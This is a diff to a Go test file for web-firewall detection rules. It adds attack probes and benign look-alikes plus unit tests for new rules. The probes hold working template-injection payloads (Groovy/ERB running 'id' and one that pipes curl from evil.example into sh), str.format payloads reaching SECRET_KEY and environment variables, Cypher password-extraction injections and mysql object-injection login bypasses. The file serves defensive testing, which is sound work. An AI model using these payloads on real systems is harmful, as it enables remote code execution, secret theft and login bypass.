@@ -392,7 +392,46 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		// LDAP injection
 	}
 	crsMisses = append(crsMisses, fileAttacks()...)
+	// a tenth fresh-eyes attack's (attack 14): Groovy and ERB code
+	// (210116), str.format fields (210117) and Cypher after a quote
+	// (210135), each in the query, JSON, a multipart text file and an
+	// XML element
+	for _, s := range []string{
+		`<% ['bash','-c','curl evil.example|sh'].execute() %>`, `<% 'id'.execute() %>`, `<% ['id'].execute() %>`,
+		`<% evaluate('"id".execute()') %>`, `yieldUnescaped ['id'].execute().text`,
+		`<%= %x[whoami] %>`, `<%= %x(id) %>`, `<%= system 'id' %>`, `<%= Kernel.send(:system, 'id') %>`,
+		`<%= instance_eval('%x(id)') %>`, `<%= require 'open3'; Open3.capture2('id')[0] %>`, `<%= ENV.to_h %>`,
+		`{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}`, `{0.__init__.__globals__[os].environ}`,
+		`x' RETURN 1 UNION MATCH (u:User) RETURN u.password//`, `x' WITH 1 as a MATCH (u:User) RETURN u.password//`,
+		`x' OR 1=1 WITH u MATCH (u) RETURN u//`,
+	} {
+		crsMisses = append(crsMisses, inFourPlaces(s)...)
+	}
+	crsMisses = append(crsMisses,
+		// Cypher with \u0027 in JSON, in a value and in a key (210135)
+		probe{name: "Cypher \\u0027 RETURN 1 UNION MATCH in a JSON value", method: "POST", path: "/api/users", contentType: js, body: `{"name": "x\u0027 RETURN 1 UNION MATCH (u:User) RETURN u.password//"}`},
+		probe{name: "Cypher \\u0027 WITH 1 as a MATCH in a JSON key", method: "POST", path: "/api/users", contentType: js, body: `{"x\u0027 WITH 1 as a MATCH (u:User) RETURN u.password//": "a"}`},
+		// Node mysql/mysql2 object injection: a key that repeats its
+		// parent's with a truthy value (210134)
+		probe{name: "mysql {\"password\":{\"password\":1}} in JSON", method: "POST", path: "/login", contentType: js, body: `{"username": "admin", "password": {"password": 1}}`},
+		probe{name: "mysql {\"password\":{\"password\":true}} in JSON", method: "POST", path: "/login", contentType: js, body: `{"password": {"password": true}}`},
+		probe{name: "mysql password[password]=1 in the query (Express's qs)", method: "GET", path: "/login?username=admin&password[password]=1"},
+		probe{name: "mysql password%5Bpassword%5D=1 in a form", method: "POST", path: "/login", contentType: form, body: "username=admin&password%5Bpassword%5D=1"},
+	)
 	return crsCatches, crsMisses
+}
+
+// inFourPlaces is s in the query, a JSON body, a multipart text file and
+// an XML element's text.
+func inFourPlaces(s string) []probe {
+	file, fileType := multipartFile("template", `filename="template.txt"`, "text/plain", s)
+	x := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
+	return []probe{
+		{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)},
+		{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("name", s)},
+		{name: "multipart text file " + s, method: "POST", path: "/upload", contentType: fileType, body: file},
+		{name: "XML element " + s, method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><page><title>` + x + `</title></page>`},
+	}
 }
 
 // utf16be is s as UTF-16BE text; control pads every line of s with
@@ -589,6 +628,21 @@ func benignTable() []probe {
 		{name: "a Liquid template with filters on variables", method: "POST", path: "/api/templates", contentType: js,
 			body: `{"body": "Hello {{ user.name }}, total {{ order.total | times: 1.1 | round: 2 }} {% if order.paid %}paid{% endif %}"}`},
 		{name: "a Mustache section", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "{{#items}}<li>{{name}}</li>{{/items}}"}`},
+		// near attack 14's: ERB, Groovy and format strings in prose and
+		// code (210116, 210117), objects with a key near their parent's
+		// (210134), apostrophes before Cypher's words (210135)
+		{name: "ERB snippets in a forum post", method: "POST", path: "/api/comments", contentType: js,
+			body: `{"comment": "Use <%= @user.name %> to print, <%= link_to 'Home', root_path %> for a link, <% if x %>...<% end %> for logic and <%= render 'form' %>; the system 'works'."}`},
+		{name: "a Rails database.yml with ENV in ERB", method: "POST", path: "/api/snippets", contentType: js,
+			body: `{"code": "production:\n  pool: <%= ENV.fetch \"RAILS_MAX_THREADS\", 5 %>\n  password: <%= ENV['DATABASE_PASSWORD'] %>"}`},
+		{name: "code that calls execute on objects", method: "POST", path: "/api/snippets", contentType: js,
+			body: `{"code": "cursor.execute(query); db.prepare('x').execute(); tasks['build'].execute(); commands[0].execute(); page.evaluate('document.title')"}`},
+		{name: "str.format fields and Python prose", method: "GET", path: "/search?q=" + q("{0} {name} {user.name} {0.__class__}: override __init__; __globals__ holds a module's names") + "&f=" + q(`f"{self.__class__.__name__}({self.x!r})"`)},
+		{name: "objects with keys near their parent's", method: "POST", path: "/api/settings", contentType: js,
+			body: `{"user": {"user_id": 1}, "settings": {"settings_version": 1}, "json": 1, "matrix": [[1, 1]], "password": {"current": "1x", "new": "2y"}}`},
+		{name: "a bracketed key near its parent's in the query", method: "GET", path: "/api/items?user[user_id]=1&page[number]=1&password[new]=1"},
+		{name: "apostrophes before Cypher's words", method: "POST", path: "/api/comments", contentType: js,
+			body: `{"comment": "it's a match (finally) with the return; I won't return the match (it was bad); Jones' match (home: away)"}`},
 		// near attack 13's Django request attributes
 		{name: "a Django template with the request's user and path", method: "POST", path: "/api/templates", contentType: js,
 			body: `{"body": "Hi {{ request.user.username }}, you are on {{ request.path }} ({{ request.method }})"}`},
@@ -891,8 +945,8 @@ func TestDetectionRulesLeaveTemplateVariablesAlone(t *testing.T) {
 		"{{ request.session_key_hint }}", "{{ request.metadata }}",
 		"{{ request_id }}", "{{ requests|length }}", "{% set r = requested %}", "{{ self.title }}", "{{ configuration }}", "{{ (price) }}", "{{ config_name or 'x' }}", "{{ myself._x }}", "{{ reconfigure_url }}"}
 	for _, line := range strings.Split(strings.TrimSpace(detectionRules+templateMoreRule), "\n") {
-		if strings.HasPrefix(strings.TrimSpace(line), "SecRule MATCHED_VAR ") {
-			continue // a chained rule's condition on what matched
+		if strings.HasPrefix(strings.TrimSpace(line), "SecRule MATCHED_VAR") {
+			continue // a chained rule's condition on what matched (MATCHED_VAR, MATCHED_VARS_NAMES)
 		}
 		i := strings.Index(line, `"@rx `)
 		j := strings.Index(line[i+5:], `" "id:`)
@@ -1183,4 +1237,66 @@ func FuzzMIMEWords(f *testing.F) {
 			t.Fatalf("mimeWords(%q) = %q", v, s)
 		}
 	})
+}
+
+// TestRepeatedKey: rule 210134's names, a key that repeats its parent's
+// (attack 14's Node mysql object injection), and names near them.
+func TestRepeatedKey(t *testing.T) {
+	truthy := regexp.MustCompile(truthyValue)
+	for name, want := range map[string]bool{
+		"json.password.password":         true,
+		"json.user.password.password":    true,
+		"password[password]":             true,
+		"password[password][]":           true,
+		"Password[password]":             true,
+		"user[password][password]":       true,
+		"filter:json.email.email":        true,
+		"json.user.user_id":              false,
+		"json.settings.settings_version": false,
+		"json.json":                      false, // {"json": 1}
+		"json.matrix.0.0":                false, // [[1]]
+		"json.password":                  false,
+		"password":                       false,
+		"json.password.current":          false,
+		"json.password.password.confirm": false,
+		"page[number]":                   false,
+		"json.passwords.password":        false,
+	} {
+		if got := repeatedKey(name); got != want {
+			t.Errorf("repeatedKey(%q) = %v, want %v", name, got, want)
+		}
+		if got := (repeatedKeyMatch{}).Evaluate(nil, "ARGS:"+name); got != want {
+			t.Errorf("Evaluate(ARGS:%q) = %v, want %v", name, got, want)
+		}
+	}
+	for v, want := range map[string]bool{"1": true, "true": true, "TRUE": true, "01": true, "1.0": true, "1e0": true, "1abc": true, "7": false, "12": false, "1.5": false, "0": false, "-1": false, "false": false, "": false, "x": false} {
+		if got := truthy.MatchString(v); got != want {
+			t.Errorf("truthyValue on %q: %v, want %v", v, got, want)
+		}
+	}
+}
+
+// TestCypherRule: rule 210135 matches attack 14's Cypher after a closed
+// quote and not prose with an apostrophe before Cypher's words.
+func TestCypherRule(t *testing.T) {
+	re := regexp.MustCompile(strings.ReplaceAll(cypherRule, `\"`, `"`))
+	for _, s := range []string{
+		`x' RETURN 1 UNION MATCH (u:User) RETURN u.password//`, `x' WITH 1 as a MATCH (u:User) RETURN u.password//`,
+		`x' OR 1=1 WITH u MATCH (u) RETURN u//`, `x" RETURN 1 UNION MATCH (u:User) RETURN u.password//`,
+		`x'}) RETURN 1 UNION MATCH (u:User) RETURN u//`, `x' MATCH (u:User) RETURN u//`, `x' UNION MATCH (n:Secret) RETURN n.value//`,
+		`x' OR 1 = 1 WITH u MATCH (u) RETURN u//`, `x' AND u.age >= 0 WITH u MATCH (u) RETURN u//`,
+	} {
+		if !re.MatchString(s) {
+			t.Errorf("210135 misses %q", s)
+		}
+	}
+	for _, s := range []string{
+		`it's a match (finally) with the return`, `I won't return the match (it was bad)`, `"foo" OR (title:bar)`,
+		`She said 'with pleasure' and we match (again)`, `Time: 10:30 (UTC: 9:30)`, `don't with (a:b)`,
+		`Jones' match (home: away)`, `Jones' match (home:away) was fun`, `MATCH (u:User) RETURN u`,
+	} {
+		if re.MatchString(s) {
+			t.Errorf("210135 matches the benign %q", s)
+		}
+	}
 }
